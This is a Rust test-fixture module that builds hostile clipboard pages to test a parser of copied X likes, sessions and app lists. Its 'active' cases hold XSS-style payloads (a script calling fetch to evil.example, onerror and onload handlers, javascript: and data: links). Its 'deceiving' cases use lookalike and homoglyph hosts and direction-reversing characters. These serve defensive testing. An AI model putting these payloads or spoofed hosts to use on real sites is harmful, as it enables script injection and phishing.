//! Pages and clipboards with something wrong about them.
//!
//! Deliberately not here: links by themselves (`links.rs`). Everything is lean markup, as Firefox copies it, so that a
//! person can read what is wrong; the endless one is made when it is asked for.

use crate::clock::{DAY, iso, post_number};
use crate::life::Life;
use crate::page::{Browser, Copied, Copying, PageKind, RowIs};
use crate::shape::Shape;
use crate::tongue::Language;

/// What a reader should make of a page.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum PageExpect {
    /// Nothing is there.
    Empty,
    /// It asks to sign in.
    SignIn,
    /// It is no page of X's.
    NotAPage,
    /// It is another page than it is said to be.
    Another,
    /// Exactly these rows; others only as doubtful ones.
    Rows(Vec<RowIs>),
    /// The same, and something is to be said about the page.
    RowsAndSaid(Vec<RowIs>),
    /// No row that is not doubtful; refused or read.
    NoSureRow,
    /// Anything that comes back soon, with nothing private in it.
    Anything,
}

/// One page with something wrong about it.
#[derive(Clone, Debug)]
pub struct HostilePage {
    /// Its kebab-case name.
    pub name: &'static str,
    /// What it is, in a sentence.
    pub what: &'static str,
    /// Which page the person says it is.
    pub said_to_be: PageKind,
    /// The account's own handle, without `@`.
    pub own_handle: String,
    /// `text/html`.
    pub markup: Option<String>,
    /// `text/plain`.
    pub text: Option<String>,
    /// What the clipboard says about its address.
    pub address: Option<String>,
    /// When it is pasted, Unix milliseconds.
    pub pasted_at: i64,
    /// Words that must not get past a reader.
    pub secrets: Vec<String>,
    /// What a reader should make of it.
    pub expect: PageExpect,
}

pub(super) fn life(seed: u64) -> Life {
    Life::quiet_as(seed, Shape { likes: Some(120), posts: Some(20), days: 60, media_bytes: 0, ..Shape::default() })
}

pub(super) fn lean(life: &Life, kind: PageKind) -> Copied {
    let how = Copying { ads: false, side_columns: false, ..Copying::all(Browser::Firefox, Language::English, 3) };
    life.page(kind, &how)
}

fn rows(page: &Copied) -> Vec<RowIs> {
    page.truth.iter().map(|row| row.is.clone()).collect()
}

/// A page as it is, to be changed.
pub(super) fn case(name: &'static str, what: &'static str, page: Copied) -> HostilePage {
    HostilePage {
        name,
        what,
        said_to_be: page.kind,
        own_handle: page.handle.clone(),
        expect: PageExpect::Rows(rows(&page)),
        markup: page.markup,
        text: Some(page.text),
        address: page.address,
        pasted_at: page.at,
        secrets: page.secrets,
    }
}

impl HostilePage {
    pub(super) fn changed(mut self, change: impl FnOnce(String) -> String) -> HostilePage {
        self.markup = self.markup.map(change);
        self
    }
    pub(super) fn expecting(self, expect: PageExpect) -> HostilePage {
        HostilePage { expect, ..self }
    }
    pub(super) fn of(self, markup: impl Into<String>) -> HostilePage {
        HostilePage { markup: Some(markup.into()), text: None, ..self }
    }
    pub(super) fn secret(mut self, word: &str) -> HostilePage {
        self.secrets.push(word.to_owned());
        self
    }
}

/// A post with this link and this instant, as the list of likes has one.
pub(super) fn post(link: &str, at: i64, words: &str) -> String {
    format!(
        "<article role=\"article\" data-testid=\"tweet\"><div data-testid=\"User-Name\"><a href=\"https://x.com/mill7_ex\"><span>Mill</span></a><a href=\"https://x.com/mill7_ex\"><span>@mill7_ex</span></a><a href=\"{link}\"><time datetime=\"{}\">Nov 3</time></a></div><div data-testid=\"tweetText\" lang=\"en\"><span>{words}</span></div></article>",
        iso(at)
    )
}

pub(super) fn in_column(inside: &str) -> String {
    format!("<div data-testid=\"primaryColumn\"><section role=\"region\"><h1>Likes</h1>{inside}</section></div>")
}

/// Puts this before the first row of a list of sessions or likes.
pub(super) fn before_rows(markup: &str, put: &str) -> String {
    let at = markup.find("<article").or_else(|| markup.find("<a href=\"https://x.com/settings/sessions/"));
    match at.and_then(|at| markup.split_at_checked(at)) {
        Some((head, tail)) => format!("{head}{put}{tail}"),
        None => format!("{put}{markup}"),
    }
}

/// An endless page of this many bytes, of valid rows.
pub fn huge_page(bytes: usize) -> String {
    let row = post("https://x.com/mill7_ex/status/1985000000000000001", 1_762_000_000_000, "again and again");
    let mut page = String::with_capacity(bytes + row.len());
    page.push_str("<div data-testid=\"primaryColumn\">");
    while page.len() < bytes {
        page.push_str(&row);
    }
    page
}

/// All pages with something wrong about them.
pub fn pages() -> Vec<HostilePage> {
    let mut all = wrong_pages();
    all.extend(active());
    all.extend(deceiving());
    all.extend(super::broken::misplaced());
    all.extend(super::broken::malformed());
    all
}

/// Pages that are not the one that was meant.
fn wrong_pages() -> Vec<HostilePage> {
    let (own, other) = (life(960), life(961));
    let likes = lean(&own, PageKind::Likes);
    let sessions = lean(&own, PageKind::Sessions);
    let theirs = lean(&other, PageKind::Likes);
    let their_rows = rows(&theirs);
    let mut somebody_elses = case("somebody-elses-likes", "The likes of another account.", theirs);
    somebody_elses.own_handle = own.handle().to_owned();
    let mut old = case("old-paste", "A list of sessions that was copied years ago.", sessions.clone());
    old.pasted_at += 3 * 365 * DAY;
    let mut wrong = case("wrong-page", "Connected apps, said to be the sessions.", lean(&own, PageKind::Apps));
    wrong.said_to_be = PageKind::Sessions;
    let login = "<div id=\"layers\"><div role=\"dialog\" aria-modal=\"true\"><h1 role=\"heading\"><span>Sign in to X</span></h1><form action=\"https://x.com/i/flow/login\"><input autocomplete=\"username\" name=\"text\" type=\"text\"><input autocomplete=\"current-password\" name=\"password\" type=\"password\"></form><a href=\"https://x.com/i/flow/signup\">Sign up</a><a href=\"https://x.com/i/flow/password_reset\">Forgot password?</a></div></div>";
    let mut sign_in =
        case("login-page", "X asks to sign in.", sessions.clone()).of(login).expecting(PageExpect::SignIn);
    sign_in.text = Some("Sign in to X\nForgot password?\nDon't have an account? Sign up".to_owned());
    sign_in.address = Some("https://x.com/i/flow/login?redirect_after_login=%2Fsettings%2Fsessions".to_owned());
    let mut nothing = case("empty", "An empty clipboard.", sessions.clone()).of("").expecting(PageExpect::Empty);
    nothing.text = Some(String::new());
    let mut blank = case("blank", "A clipboard with nothing but space in it.", sessions.clone())
        .of("<meta http-equiv=\"content-type\" content=\"text/html; charset=utf-8\">\n<div> </div>")
        .expecting(PageExpect::NoSureRow);
    blank.text = Some("\n  \n".to_owned());
    let mut news = case("news", "A newspaper's page.", sessions.clone())
        .of("<article><h1>The ferry is late</h1><p>By the harbour, <a href=\"https://news.example.org/status/1\"><time datetime=\"2026-11-03T10:00:00Z\">today</time></a></p></article>")
        .expecting(PageExpect::NotAPage);
    news.address = Some("https://news.example.org/ferry".to_owned());
    let mut mastodon = case("mastodon-sessions", "The sessions of an account elsewhere.", sessions)
        .of("<table><tbody><tr><td><span title=\"Mozilla/5.0\">Firefox on Linux</span></td><td><samp>192.0.2.7</samp></td><td><time datetime=\"2026-11-03T10:00:00Z\">4d</time></td><td><a data-method=\"delete\" href=\"https://social.example.org/settings/sessions/17\">Revoke</a></td></tr></tbody></table>")
        .expecting(PageExpect::NotAPage);
    mastodon.address = Some("https://social.example.org/auth/edit".to_owned());
    let empty_list = case("no-likes", "A list of likes with nothing in it.", likes)
        .of(in_column("<div><span>Nothing to see here yet</span></div>"))
        .expecting(PageExpect::Rows(Vec::new()));
    vec![
        somebody_elses.expecting(PageExpect::RowsAndSaid(their_rows)),
        old,
        wrong.expecting(PageExpect::Another),
        sign_in,
        nothing,
        blank,
        news,
        mastodon,
        empty_list,
    ]
}

/// Pages that would do something.
fn active() -> Vec<HostilePage> {
    let own = life(962);
    let likes = lean(&own, PageKind::Likes);
    let sessions = lean(&own, PageKind::Sessions);
    let at = likes.at - 2 * DAY;
    let id = post_number(at, 7);
    vec![
        case("scripts", "Scripts, styles and frames stand between the rows.", sessions.clone())
            .changed(|markup| {
                before_rows(&markup, "<script>fetch('https://evil.example/SCRIPTWORD')</script><style>@import 'https://evil.example/x.css'</style><iframe srcdoc=\"<script>SCRIPTWORD</script>\"></iframe><svg onload=\"SCRIPTWORD\"></svg><img src=x onerror=\"SCRIPTWORD\">")
            })
            .secret("SCRIPTWORD"),
        case("script-links", "Links that are scripts, shaped like posts and sessions.", likes.clone())
            .of(in_column(&format!(
                "{}{}<a href=\"javascript:location='https://x.com/settings/sessions/SCRIPTWORD'\">X for iPhone</a>",
                post(&format!("javascript:alert(1)//x.com/mill7_ex/status/{id}"), at, "one"),
                post(&format!("  JaVaScRiPt:void(0)//https://x.com/mill7_ex/status/{id}"), at, "two"),
            )))
            .secret("SCRIPTWORD")
            .expecting(PageExpect::NoSureRow),
        case("handlers", "Every link has a handler.", sessions)
            .changed(|markup| markup.replace("<a href", "<a onclick=\"steal('HANDLERWORD')\" onmouseover=HANDLERWORD href"))
            .secret("HANDLERWORD"),
        case("data-links", "Links that hold a page in themselves.", likes)
            .of(in_column(&post(&format!("data:text/html,https://x.com/mill7_ex/status/{id}"), at, "one")))
            .expecting(PageExpect::NoSureRow),
    ]
}

/// Pages that look like something else than they are.
fn deceiving() -> Vec<HostilePage> {
    let own = life(963);
    let likes = lean(&own, PageKind::Likes);
    let sessions = lean(&own, PageKind::Sessions);
    let apps = lean(&own, PageKind::Apps);
    let at = likes.at - DAY;
    let id = post_number(at, 99);
    let hosts = [
        "https://x.com.evil.example",
        "https://х.com",
        "https://x.com@evil.example",
        "https://evil.example/https://x.com",
        "https://notx.com",
        "https://x.com:8443",
        "https://xn--x-8ub.com",
        "https://x.com\\@evil.example",
        "https://api.x.com.example",
    ];
    let posts: String = hosts.iter().map(|host| post(&format!("{host}/mill7_ex/status/{id}"), at, "look")).collect();
    let doors: String = hosts
        .iter()
        .map(|host| {
            format!("<a href=\"{host}/settings/sessions/LOOKALIKETOKEN\"><div>X for iPhone</div><div>Zenda</div></a>")
        })
        .collect();
    let turned = "\u{202e}enohPi rof X\u{202c}";
    let name = apps.truth.iter().find_map(|row| match &row.is {
        RowIs::App { name, .. } => Some(name.clone()),
        _ => None,
    });
    let hidden_name = name.unwrap_or_default();
    let with_space: String = hidden_name.chars().flat_map(|letter| [letter, '\u{200b}']).collect();
    let first_id = |page: &Copied| {
        page.truth.iter().find_map(|row| match row.is {
            RowIs::Post { id, .. } => Some(id),
            _ => None,
        })
    };
    let real = first_id(&likes).unwrap_or(id);
    let session_rows = rows(&sessions);
    vec![
        case("lookalike-hosts", "Posts under addresses that look like X's.", likes.clone())
            .of(in_column(&posts))
            .expecting(PageExpect::NoSureRow),
        case("lookalike-sessions", "Sessions under addresses that look like X's.", sessions.clone())
            .of(format!("<div data-testid=\"primaryColumn\"><h2>Sessions</h2>{doors}</div>"))
            .secret("LOOKALIKETOKEN")
            .expecting(PageExpect::NoSureRow),
        case("turned-names", "A name with marks that turn the direction.", sessions.clone())
            .of(format!(
                "<div data-testid=\"primaryColumn\"><h2>Sessions</h2><a href=\"https://x.com/settings/sessions/TURNEDTOKEN\"><div><svg></svg></div><div><div>{turned}</div><div><div>Zenda</div><div>·</div><div>2 hours ago</div></div></div></a></div>"
            ))
            .secret("TURNEDTOKEN")
            .expecting(PageExpect::Rows(vec![RowIs::Session {
                token: "TURNEDTOKEN".to_owned(),
                name: turned.to_owned(),
                place: Some("Zenda".to_owned()),
                current: false,
            }])),
        case("zero-width-name", "An app's name with spaces of no width between its letters.", apps)
            .changed(|markup| markup.replacen(&format!(">{hidden_name}<"), &format!(">{with_space}<"), 1))
            .expecting(PageExpect::Anything),
        case("future-number", "A post with a number from next year.", likes.clone())
            .of(in_column(&post(&format!("https://x.com/mill7_ex/status/{}", post_number(likes.at + 400 * DAY, 1)), likes.at - DAY, "soon")))
            .expecting(PageExpect::NoSureRow),
        case("number-and-time-differ", "A post whose number tells another time than its page.", likes.clone())
            .of(in_column(&post(&format!("https://x.com/mill7_ex/status/{real}"), likes.at - 900 * DAY, "when")))
            .expecting(PageExpect::NoSureRow),
        case("impossible-numbers", "Numbers that no post can have.", likes.clone())
            .of(in_column(&[
                "0", "00000", "99999999999999999999999999", "-5", "1e9", "0x1F", "١٢٣٤٥٦٧٨٩٠", "18446744073709551616",
            ].map(|number| post(&format!("https://x.com/mill7_ex/status/{number}"), at, "no")).concat()))
            .expecting(PageExpect::NoSureRow),
        case("forged-address", "A list of sessions that says to come from elsewhere.", sessions.clone())
            .expecting(PageExpect::Anything),
        case("page-twice", "The same page twice in one copy.", sessions)
            .changed(|markup| format!("{markup}{markup}"))
            .expecting(PageExpect::Rows(session_rows)),
        case("likes-twice", "The same likes twice in one copy.", likes).changed(|markup| format!("{markup}{markup}")),
    ]
    .into_iter()
    .map(|mut page| {
        if page.name == "forged-address" {
            page.address = Some("https://x.com.evil.example/settings/sessions".to_owned());
        }
        page
    })
    .collect()
}
